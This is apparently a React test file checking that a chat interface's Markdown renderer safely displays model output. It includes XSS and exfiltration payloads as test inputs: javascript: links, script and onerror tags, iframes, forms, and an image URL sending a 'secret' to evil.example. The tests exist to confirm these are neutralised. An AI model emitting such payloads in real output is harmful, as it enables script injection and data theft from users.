import { render, screen, waitFor } from '@testing-library/react'
import { beforeAll, describe, expect, it } from 'vitest'
import { loadMarkdown } from '#components/chat/load-markdown.ts'
import { Markdown } from '#components/chat/markdown.tsx'

function show(text: string) {
  return render(<Markdown text={text} />).container
}

beforeAll(loadMarkdown)

describe('Markdown from a model', () => {
  it('becomes headings, lists, tables and code', () => {
    show('# Title\n\n- one\n- two\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n```js\nlet x\n```')
    expect(screen.getByRole('heading', { name: 'Title' })).toBeVisible()
    expect(screen.getAllByRole('listitem')).toHaveLength(2)
    expect(screen.getByRole('region', { name: 'Table' })).toContainElement(screen.getByRole('table'))
    expect(screen.getByText('let x')).toBeVisible()
    expect(screen.getByRole('button', { name: 'Copy the code' })).toBeVisible()
  })

  it('opens links in a new tab that knows nothing of this one', () => {
    show('[site](https://example.org)')
    const link = screen.getByRole('link', { name: 'site' })
    expect(link).toHaveAttribute('target', '_blank')
    expect(link).toHaveAttribute('rel', expect.stringContaining('noopener'))
  })

  it.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](data:text/html,hi)',
    '[x](/api/auth/sign-out)',
    '[x](//evil.example)',
    '<javascript:alert(1)>',
  ])('makes no link of %s', (text) => {
    show(text)
    expect(screen.queryByRole('link')).toBeNull()
  })

  it('never loads an image, and shows its words instead', () => {
    const container = show(
      '![a cat](https://evil.example/?q=secret) ![](https://evil.example/b.png) ![inline](data:image/png;base64,AA)',
    )
    expect(container.querySelector('img, picture, video, [srcset], [style]')).toBeNull()
    expect(screen.getByRole('link', { name: 'a cat (evil.example)' })).toHaveAttribute(
      'href',
      'https://evil.example/?q=secret',
    )
    expect(screen.getByText('inline')).toBeVisible()
  })

  it.each([
    '<script>alert(1)</script>',
    '<img src="https://evil.example/x" onerror="alert(1)">',
    '<iframe src="https://evil.example"></iframe>',
    'text <b onclick="alert(1)">bold</b>',
    '<form action="https://evil.example"><input></form>',
  ])('shows %s as the text it is', (html) => {
    const container = show(html)
    expect(container.querySelector('script, img, iframe, b, form, input')).toBeNull()
    expect(container).toHaveTextContent(html.replaceAll(/\s+/g, ' '))
  })

  it('leads from a footnote to its note inside the page', () => {
    show('Fact[^1]\n\n[^1]: Source')
    expect(screen.getByRole('link', { name: 'Footnote 1' })).toHaveAttribute('href', expect.stringMatching(/-note-1$/))
  })

  it.each([
    ['quotes', '>'.repeat(4000)],
    ['lists', '- '.repeat(4000)],
    ['quotes and lists', '> 1. '.repeat(2000)],
  ])('shows thousands of %s within each other as plain text, without taking the page down', async (_, start) => {
    const text = `${start}deep`
    const page = show(text)
    await waitFor(() => expect(page.textContent).toBe(text))
  })

  it('draws only the last block again while it grows', () => {
    const { container, rerender } = render(<Markdown text={'One\n\nTwo'} />)
    const first = container.querySelector('p')
    rerender(<Markdown text={'One\n\nTwo and more\n\nThree'} />)
    expect(container.querySelector('p')).toBe(first)
    expect(container.querySelectorAll('p')).toHaveLength(3)
  })
})
